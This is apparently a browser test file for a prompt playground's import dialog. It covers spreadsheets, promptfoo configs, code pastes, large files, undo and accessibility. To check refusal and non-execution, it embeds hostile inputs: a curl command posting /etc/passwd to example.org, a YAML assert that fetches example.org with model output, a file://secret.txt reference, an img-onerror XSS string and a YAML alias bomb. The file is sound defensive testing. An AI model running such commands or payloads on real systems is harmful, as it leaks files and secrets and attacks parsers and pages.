import { AxeBuilder } from '@axe-core/playwright'
import type { Page } from 'playwright'
import { describe, expect, it } from 'vitest'
import { outputOf, untilState, type WatchedPage } from '../running/browser-page.ts'
import { cellOf, editorOf, messageTextOf, openPlayground } from '../running/playground-page.ts'
import { freshPlayground, served } from '../running/served.ts'

const TAGS = ['wcag2a', 'wcag2aa', 'wcag21a', 'wcag21aa', 'wcag22aa']
/** As a spreadsheet program writes it: a mark at the start, quotes around line breaks, semicolons. */
const CSV = '\ufeffticket;customer;Expected\r\n"The lid is ""cracked"".\r\nRefund; please.";Ada;refund\r\nWhere is it?;Grace;delivery\r\n'
const YAML = `description: tickets
prompts:
  - label: triage
    raw: '[{"role":"system","content":"Be brief."},{"role":"user","content":"{{customer}} writes: {{ticket}}"}]'
defaultTest:
  assert:
    - type: javascript
      value: fetch('https://example.org/' + output)
tests:
  - vars: {customer: Ada, ticket: file://secret.txt}
    assert: [{type: contains, value: Ada}]
  - vars: {customer: Grace, ticket: It never came.}
`

const on = served()
let visit: WatchedPage
let page: Page
freshPlayground(on, (opened) => {
  visit = opened
  page = opened.page
})

const dialog = () => page.getByTestId('import-dialog')
const button = (name: string) => dialog().getByRole('button', { name, exact: true })
const take = (name: string, content: string | Buffer) =>
  dialog()
    .locator('input[type=file]')
    .setInputFiles({ name, mimeType: '', buffer: Buffer.from(content) })
async function open(name: string, content: string | Buffer): Promise<void> {
  await page.getByTestId('import').click()
  await dialog().waitFor()
  await take(name, content)
}
/** Everything that an import could change, as it is seen once the models and their prices are there. */
async function seen() {
  await page.getByTestId('estimate').filter({ hasText: '$' }).first().waitFor()
  return page.evaluate(() => {
    const root = document.querySelector('[data-testid="vitrine"]')
    return ['message', 'case', 'model'].map((id) =>
      [...(root?.querySelectorAll(`[data-testid="${id}"]`) ?? [])].map((element) => element.textContent),
    )
  })
}

describe('cases from a spreadsheet', () => {
  it('come in with their line breaks and quotes, and run', async () => {
    await open('tickets.csv', CSV)
    await dialog().getByText('2 cases · 3 columns').waitFor()
    expect(await dialog().getByRole('combobox', { name: 'Delimiter' }).inputValue()).toBe(';')
    await button('Continue').click()
    expect(await dialog().getByRole('combobox', { name: 'What Expected becomes' }).inputValue()).toBe('expected')
    await button('Continue').click()
    await button('Replace').click()
    await button('Import 2 cases').click()
    await dialog().waitFor({ state: 'detached' })
    await expect.poll(() => page.getByTestId('case').count()).toBe(2)
    expect(await cellOf(page, 1, 'ticket').textContent()).toContain('The lid is "cracked".')

    const [request] = await Promise.all([page.waitForRequest((sent) => sent.url().includes('/test?')), page.getByTestId('run').click()])
    expect(request.postDataJSON()).toMatchObject({ inputs: { ticket: 'The lid is "cracked".\r\nRefund; please.', customer: 'Ada' } })
    for (const number of [1, 2]) await untilState(page, number, 'done')
    expect(await outputOf(page, 2).getByTestId('output-text').textContent()).not.toBe('')
    expect(visit.complaints).toEqual([])
  })

  it('come in by a drop on the page, and one undo takes them back', async () => {
    const before = await seen()
    const data = await page.evaluateHandle((text) => {
      const transfer = new DataTransfer()
      transfer.items.add(new File([text], 'dropped.csv'))
      return transfer
    }, CSV)
    await editorOf(page, 1).dispatchEvent('drop', { dataTransfer: data })
    await dialog().getByText('dropped.csv').waitFor()
    await button('Continue').click()
    await button('Continue').click()
    await button('Append').click()
    await button('Import 2 cases').click()
    await expect.poll(() => page.getByTestId('case').count()).toBe((before[1]?.length ?? 0) + 2)
    await page.getByTestId('toast').getByRole('button', { name: /Undo/ }).click()
    await expect.poll(() => seen()).toEqual(before)
  })
})

describe('a configuration of promptfoo', () => {
  it('brings prompt, cases and checks; its code is not run, its files are not fetched, and one undo takes it back', async () => {
    const before = await seen()
    const sent: string[] = []
    page.on('request', (request) => sent.push(request.url()))
    await open('promptfooconfig.yaml', YAML)
    await dialog().locator('[data-code="not-executed"]').first().waitFor()
    await button('Continue').click()
    await button('Continue').click()
    expect(await dialog().getByTestId('import-prompt-preview').textContent()).toContain('{{customer}} writes: {{ticket}}')
    await button('Replace').click()
    await button('Import 2 cases').click()
    await dialog().waitFor({ state: 'detached' })
    await expect.poll(() => messageTextOf(page, 2)).toBe('{{customer}} writes: {{ticket}}')
    expect(await cellOf(page, 2, 'ticket').textContent()).toContain('It never came.')
    expect(sent.filter((url) => /secret|example\.org/.test(url))).toEqual([])
    expect(visit.strangers).toEqual([])

    await page.keyboard.press('ControlOrMeta+z')
    await expect.poll(() => seen()).toEqual(before)
    expect(await page.getByRole('button', { name: 'Undo', exact: true }).first().getAttribute('aria-disabled')).toBe('true')
  })
})

describe('a large spreadsheet', () => {
  it('is read in a worker of its own, under the strictest policy, and its 10,000 cases come in with one undo', async () => {
    const before = await seen()
    const data = await page.evaluateHandle(() => {
      const names = ['ticket', 'customer', ...Array.from({ length: 8 }, (_, at) => `column ${at}`)]
      const rows = Array.from({ length: 100_000 }, (_, index) => names.map((_name, at) => `value ${at} of line ${index}`).join(','))
      const transfer = new DataTransfer()
      transfer.items.add(new File([`${names.join(',')}\n${rows.join('\n')}\n`], 'large.csv'))
      return transfer
    })
    await editorOf(page, 1).dispatchEvent('drop', { dataTransfer: data })
    await dialog().getByText('100,000 cases · 10 columns').waitFor()
    expect(await dialog().locator('[data-code="rows-beyond-size"]').textContent()).toMatch(
      /There are 100,000 rows\. The first 10,000 are offered/,
    )
    expect(page.workers().filter((worker) => worker.url().includes('import.worker'))).toHaveLength(1)
    await button('Continue').click()
    await button('Continue').click()
    await button('Replace').click()
    await dialog().getByText('90,000 cases have no room and stay outside: a playground holds 10,000.').waitFor()
    await button('Import 10,000 cases').click()
    await dialog().waitFor({ state: 'detached' })
    expect(await cellOf(page, 1, 'ticket').textContent()).toContain('value 0 of line 0')
    await expect.poll(() => page.workers().filter((worker) => worker.url().includes('import.worker')).length).toBe(0)
    await page.getByTestId('toast').getByRole('button', { name: /Undo/ }).click()
    await expect.poll(() => seen()).toEqual(before)
    expect(visit.complaints).toEqual([])
  })
})

describe('a program and a request of another maker', () => {
  it.each([
    [
      'a Python call',
      `from openai import OpenAI\nclient = OpenAI()\nname = "Ada"\nclient.chat.completions.create(model="demo/echo", messages=[{"role": "user", "content": f"Dear {name}!"}])`,
    ],
    ['a request to Gemini', '{"contents":[{"role":"user","parts":[{"text":"Dear {{name}}!"}]}],"generationConfig":{"temperature":0.5}}'],
  ])('%s brings its prompt', async (_, text) => {
    await page.getByTestId('import').click()
    await dialog()
      .getByRole('textbox', { name: /^Or paste/ })
      .fill(text)
    await button('Continue').click()
    if (await dialog().getByTestId('import-buckets').isVisible()) await button('Continue').click()
    await expect.poll(() => dialog().getByTestId('import-prompt-preview').textContent()).toContain('Dear {{name}}!')
    if (await button('Replace').isVisible()) await button('Replace').click()
    await dialog().getByTestId('import-apply').click()
    await dialog().waitFor({ state: 'detached' })
    await expect.poll(() => messageTextOf(page, 1)).toBe('Dear {{name}}!')
    expect(visit.strangers).toEqual([])
    expect(visit.complaints).toEqual([])
  })
})

describe('what cannot be taken', () => {
  const bomb = [
    'a: &a [x,x,x,x,x,x,x,x,x]',
    ...'bcdefghi'.split('').map((name, at) => `${name}: &${name} [${`*${'abcdefgh'[at]},`.repeat(9)}]`),
  ]
  const cases: readonly (readonly [code: string, name: string, content: string | Buffer, words: RegExp])[] = [
    ['newer-version', 'later.json', '{"v":99,"mode":"<img src=x onerror=alert(1)>","prompt":{},"rows":[]}', /newer version \(99/],
    [
      'wrong-shape',
      '<img src=x onerror=alert(1)>.json',
      '{"v":1,"prompt":{},"rows":[{"data":{"a":1}}]}',
      /rows\[0\]\.data\.a must be a text/,
    ],
    ['yaml-aliases', 'bomb.yaml', `prompts: [x]\n${bomb.join('\n')}\n`, /repeats parts of itself/],
    ['unclosed-quote', 'open.csv', 'a,b\n1,2\n"never closed,3\n', /Line 3: The quote that opens here/],
    ['duplicate-headers', 'twice.csv', 'a,a\n1,2\n', /more than one column: a/],
    ['old-spreadsheet', 'old.xls', Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]), /before 2007/],
    ['json-syntax', 'broken.json', '{"a":\n [1,2}', /Line 2: This is no JSON/],
    ['no-rows', 'names.csv', 'a,b\n', /Add a line/],
    ['not-fetched', 'x.txt', 'curl https://example.org -d @/etc/passwd', /Nothing is fetched/],
  ]

  it('is refused with its reason, and changes nothing', async () => {
    const before = await seen()
    await page.getByTestId('import').click()
    for (const [code, name, content, words] of cases) {
      await take(name, content)
      await dialog().getByText(name, { exact: true }).waitFor()
      const notice = dialog().locator(`[data-testid="error-notice"][data-code="${code}"]`)
      await notice.waitFor()
      expect(await notice.textContent()).toMatch(words)
      expect(await button('Continue').getAttribute('aria-disabled')).toBe('true')
    }
    await page.keyboard.press('Escape')
    await dialog().waitFor({ state: 'detached' })
    expect(await seen()).toEqual(before)
    expect(visit.strangers).toEqual([])
    expect(visit.complaints).toEqual([])
    expect(await page.getByRole('button', { name: 'Undo', exact: true }).first().getAttribute('aria-disabled')).toBe('true')
  })
})

describe('the dialog', () => {
  const focusedName = () =>
    page.evaluate(() => {
      let element = document.activeElement
      while (element?.shadowRoot?.activeElement) element = element.shadowRoot.activeElement
      return element?.getAttribute('aria-label') ?? element?.textContent?.trim() ?? ''
    })
  async function tabTo(name: string): Promise<void> {
    for (let presses = 0; presses < 40; presses++) {
      if ((await focusedName()) === name) return
      await page.keyboard.press('Tab')
    }
    throw new Error(`The tab key does not lead to ${name}.`)
  }

  it('is worked with the keyboard alone, and gives the focus back', async () => {
    await tabTo('Import')
    await page.keyboard.press('Enter')
    await dialog().waitFor()
    await tabTo('Or paste a table, JSON, YAML, a cURL command or a Python call')
    await page.keyboard.insertText('ticket\tcustomer\tnotes\nHello\tAda\tx\n')
    await dialog().getByText('1 case · 3 columns').waitFor()
    await tabTo('Continue')
    await page.keyboard.press('Enter')
    await tabTo('What notes becomes')
    await page.keyboard.press('Enter')
    await page.keyboard.press('End')
    await page.keyboard.press('Enter')
    await expect.poll(() => dialog().getByRole('combobox', { name: 'What notes becomes' }).inputValue()).toBe('ignore')
    await tabTo('Continue')
    await page.keyboard.press('Enter')
    await tabTo('Replace')
    await page.keyboard.press('Space')
    await tabTo('Import 1 case')
    await page.keyboard.press('Enter')
    await dialog().waitFor({ state: 'detached' })
    await expect.poll(() => page.getByTestId('case').count()).toBe(1)
    await expect.poll(focusedName).toBe('Import')
  })

  for (const [width, colorScheme] of [
    [1440, 'light'],
    [1440, 'dark'],
    [390, 'light'],
  ] as const)
    it(`has no barrier at ${width} pixels, ${colorScheme}`, async () => {
      const own = await openPlayground(on.browser, on.service.origin, { width, height: 844, colorScheme })
      page = own.page
      const found: string[] = []
      const look = async (scene: string) => {
        await page.evaluate(() => Promise.allSettled(document.getAnimations().map(({ finished }) => finished)))
        const { violations } = await new AxeBuilder({ page })
          .include('[data-testid="import-dialog"]')
          .exclude('[data-base-ui-focus-guard]')
          .withTags(TAGS)
          .analyze()
        found.push(...violations.flatMap(({ id, nodes }) => nodes.map(({ target }) => `${scene}: ${id} ${String(target)}`)))
        const wide = await dialog().evaluate((element) => element.scrollWidth - element.clientWidth)
        if (wide > 0) found.push(`${scene}: it is ${wide}px too wide`)
      }
      if (width < 900) await page.getByRole('button', { name: 'More', exact: true }).click()
      await page.getByTestId('import').click()
      await dialog().waitFor()
      await look('nothing yet')
      await take('broken.json', '{')
      await dialog().getByTestId('error-notice').waitFor()
      await look('refused')
      await take('promptfooconfig.yaml', YAML)
      await dialog().getByText('2 cases', { exact: false }).waitFor()
      await look('recognised')
      await button('Continue').click()
      await dialog().getByRole('table').waitFor()
      await look('columns')
      await dialog().getByRole('textbox').first().fill('')
      await look('a column without a name')
      await dialog().getByRole('textbox').first().fill('customer')
      await button('Continue').click()
      await button('Append').click()
      await look('where it goes')
      expect(found).toEqual([])
      await own.context.close()
    })
})
